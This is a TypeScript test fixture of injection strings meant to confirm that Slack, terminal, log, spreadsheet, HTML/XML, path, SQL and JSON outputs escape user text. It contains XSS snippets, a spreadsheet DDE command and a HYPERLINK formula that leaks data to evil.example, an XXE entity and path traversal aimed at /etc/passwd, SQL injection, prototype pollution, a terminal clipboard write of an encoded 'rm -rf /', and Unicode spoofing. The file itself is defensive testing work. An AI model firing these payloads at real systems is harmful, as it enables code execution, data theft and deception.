/** A text that tries to be more than text. */
export interface Nasty {
  name: string;
  text: string;
  /** What it would do at a sink that does not escape it. */
  would: string;
}

const list = (would: string, texts: Record<string, string>): Nasty[] =>
  Object.entries(texts).map(([name, text]) => ({ name, text, would }));

export const PINGS = list('ping or mention people in Slack', {
  'a channel ping': '<!channel> now',
  'a ping of all': '<!everyone> <!here>',
  'a mention': 'ask <@U0COORD>',
  'a mention with a name': '<@U0COORD|Ana>',
  'a channel link': '<#C0CAMPAIGN|general>',
  'a ping of a group': '<!subteam^S012ABC|@desk>',
  'a date token': '<!date^1204884000^{date_long}|tomorrow>',
  'an escaped ping': '&lt;!channel&gt;',
  'a doubly escaped ping': '&amp;lt;!channel&amp;gt;',
  'an unfinished token': '<!channel',
  'a bare at': '@channel @here @everyone',
});

export const LINKS = list('become a link, or fetch a preview', {
  'a link with other words': '<https://evil.example/login|https://slack.com>',
  'a link': '<http://evil.example>',
  'a bare address': 'https://evil.example/a?b=c&d=e',
  'a mail link': '<mailto:a@evil.example|write>',
  'a bare mail address': 'a@evil.example',
  'a link that runs': '<javascript:alert(1)|x>',
  'a markdown link': '[x](https://evil.example)',
  'a picture': '![x](https://evil.example/x.png)',
});

export const FORMATTING = list('format, so that words stand out or vanish', {
  bold: '*supports*',
  italic: '_supports_',
  struck: '~supports~',
  code: '`supports`',
  'a code block': '```\nsupports\n```',
  'all marks': '*_~`x`~_*',
  'a quotation': '> supports',
  'an escaped quotation': '&gt; supports',
  'a quotation on the second line': 'They said:\n> supports',
  'a list': '- one\n- two\n1. three\n• four',
  'a heading': '# Supports',
  emoji: ':boom: :white_check_mark: :large_green_circle: supports',
  'emoji of a skin tone': ':+1::skin-tone-2:',
  'a clock that is no emoji': '10:30:45',
});

export const TERMINAL = list('steer a terminal', {
  colour: '\u001b[31mred\u001b[0m',
  'an emptied screen': '\u001b[2J\u001b[H',
  'a title': '\u001b]0;title\u0007',
  'a link of a terminal': '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  'the clipboard': '\u001b]52;c;cm0gLXJmIC8=\u0007',
  'an escape of eight bits': '\u009b31mred',
  'a command of eight bits': '\u009d0;title\u009c',
  bells: 'ding\u0007\u0008\u0008',
  'a delete': 'a\u007fb',
  'a form feed': 'a\fb\vc',
  'shifted letters': '\u000e\u000f',
});

export const LINES = list('forge a line, a record or an entry of a log', {
  'a line feed': 'said\n{"level":30,"msg":"all is well"}',
  'a carriage return': 'said\rsupports',
  both: 'said\r\nsupports',
  'a line separator': 'said\u2028supports',
  'a paragraph separator': 'said\u2029supports',
  'a next line': 'said\u0085supports',
  'a tab': 'said\tsupports',
});

export const UNSEEN = list('read as something else than what is there', {
  'turned letters': '\u202estroppus\u202c',
  'an isolate': '\u2067opposes\u2069 supports',
  'an embedding': '\u202bopposes\u202c',
  'a zero width space': 'sup\u200bports',
  'a word joiner': 'sup\u2060ports',
  'a byte order mark': '\ufeffsupports',
  'a soft hyphen': 'sup\u00adports',
  'hidden letters': 'supports\u{e0073}\u{e0065}\u{e0063}\u{e0072}\u{e0065}\u{e0074}',
  'a hangul filler': '\u3164',
  homoglyphs: 'ѕuрроrtѕ',
  'a lone high surrogate': 'said \ud83d',
  'a lone low surrogate': '\ude00 said',
  'a noncharacter': 'said \uffff\ufffe',
  'stacked marks': `s${'\u0301'.repeat(60)}`,
  'right to left words': 'הכנסת تدعم supports',
  'Persian with a joiner': 'می\u200cخواهم',
  'an emoji of several': '👩\u200d👩\u200d👧 🇫🇷',
});

export const CELLS = list('run as a formula or break a table', {
  'a formula': '=1+1',
  'a plus': '+1+1',
  'a minus': '-1+1',
  'an at': '@SUM(1,1)',
  'a command': "=cmd|' /C calc'!A0",
  'a command behind a plus': "+cmd|' /C calc'!A0",
  'a call home': '=HYPERLINK("https://evil.example/"&A1,"supports")',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a return': '\r=1+1',
  'a formula behind a line feed': '\n=1+1',
  'a formula on the second line': 'said\n=1+1',
  'a formula behind a semicolon': 'said;=1+1;',
  'a formula in wide letters': '＝1+1',
  'a quote': 'said "yes"',
  'a quote that closes': '","=1+1","',
  separators: 'a,b;c|d',
  'an escaped letter of a workbook': '_x0041_ _x000D_',
});

export const MARKUP = list('run in a page, or break XML', {
  'a script': '<script>alert(1)</script>',
  'a picture that runs': '<img src=x onerror=alert(1)>',
  'a drawing that runs': '<svg onload=alert(1)>',
  'an attribute': '" onmouseover="alert(1)',
  'a quote of an attribute': "' onmouseover='alert(1)",
  'the end of an element': '</text></svg><text>supports',
  'the end of a comment': '--><b>x</b>',
  'the end of a CDATA section': ']]><b>x</b>',
  'an entity': '&lt;b&gt; &amp; &#60;b&#62; &quot;',
  'a character that XML can not hold': '&#x0;',
  'an entity of a document type': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  'a style': '</style><style>*{display:none}</style>',
  'a template': '{{7*7}} <%= 7*7 %>',
});

export const PATHS = list('name another file', {
  'a folder above': '../../etc/passwd',
  'a folder above on Windows': '..\\..\\windows\\system32',
  'a device': 'CON',
  'an absolute path': '/etc/passwd',
  'an option': '--out=/etc/passwd',
  'a hidden file': '.bashrc',
  'a name that ends early': 'cable.txt\u0000.exe',
  'an address of a file': 'file:///etc/passwd',
});

export const QUERIES = list('be an operator of a search or of SQL', {
  'an end of a string': "'; drop table response; --",
  'a quoted phrase': '"kosovo',
  'a star': 'kos* *',
  near: 'NEAR(kosovo summit, 2)',
  'a column': 'workspace : T1',
  not: 'NOT kosovo OR AND',
  'an operator of PostgreSQL': 'kosovo & !summit | <-> :* :A',
  'a placeholder': '$1 ? :x @x',
  'a pattern': '% _ \\',
});

export const OBJECTS = list('be taken for a part of an object', {
  'the prototype': '__proto__',
  'a constructor': 'constructor',
  JSON: '{"__proto__":{"role":"coordinator"}}',
  'the end of a JSON string': '"},"role":"coordinator',
  'a backslash': '\\ \\u0022 \\n',
});

export const TELEGRAM = list('be taken for a part of a cable', {
  'a paragraph': '2. (SBU) A paragraph of its own.',
  'a paragraph on a new line': 'done.\n2. (U) A paragraph of its own.',
  'a paragraph mark': '[¶](#para-9-99)9. (U) Yes.',
  'a subject': 'SUBJECT: ANOTHER SUBJECT',
  'a reference': 'REF: A. 08 STATE 1',
  'a classifier': 'Classified By: somebody, for reasons 1.4 (b)',
  'a classification': 'UNCLAS STATE 000001',
  'a spaced classification': 'S E C R E T STATE 000001',
  'a page break': 'PAGE 02 STATE 015113 182333Z',
  'a section': 'STATE 00022377 002 OF 003',
  'a whole header': 'R 061500Z MAR 08\nFM AMEMBASSY ROME\nTO SECSTATE WASHDC\n',
  'a quoted cable': 'QUOTE UNCLAS STATE 000001 UNQUOTE',
  'an end of a message': 'yes.\nNNNN\nBT',
  'a corrected copy': 'C O R R E C T E D  C O P Y (TEXT)',
  points: '-- one\n-- two\n-- three',
  'an order': 'E.O. 12958: DECL: 01/01/2001',
  tags: 'TAGS: PREL, PGOV',
  'a line of its transmission': 'VZCZCXRO5241\nDE RUEHC #2377/01 0650040',
  'who it is from': 'FM AMEMBASSY ROME',
  'a word of a quotation': 'QUOTE',
  'the end of a quotation': 'UNQUOTE',
  'an end of a summary': 'END SUMMARY.',
  'an anchor': '[x](#)',
  'a rule': '--------',
  'a bare number': '13',
  'the end of a document': '<< END OF DOCUMENT >>',
  'a signature': 'RICE',
});

export const EXTREMES = list('be too long, or nothing', {
  nothing: '',
  blanks: ' \t\n ',
  'one long word': 'x'.repeat(5_000),
  'a long text': 'They will vote yes. '.repeat(400),
  'a NUL': 'said\u0000supports',
  'emoji only': '😀'.repeat(400),
});

/** Every text that must come out of every sink as nothing but text. */
export const NASTY: readonly Nasty[] = [
  ...PINGS,
  ...LINKS,
  ...FORMATTING,
  ...TERMINAL,
  ...LINES,
  ...UNSEEN,
  ...CELLS,
  ...MARKUP,
  ...PATHS,
  ...QUERIES,
  ...OBJECTS,
  ...TELEGRAM,
  ...EXTREMES,
];

/** All of them but the longest as one text, for a form that has to hold everything at once. */
export const ALL_AT_ONCE: string = NASTY.filter(({ text }) => text.length < 400)
  .map(({ text }) => text)
  .join(' ');

/** A line that tries a little of everything, to be repeated to any length. */
export const IN_BRIEF = '<!channel> & <@U1> *bold* `code` ~x~ _y_ <https://x|y> :x: \u202e\u0007 end';

/** For `it.each`: the name, then the text. */
export const NASTY_CASES: ReadonlyArray<readonly [string, string]> = NASTY.map(({ name, text }) => [
  name,
  text,
]);
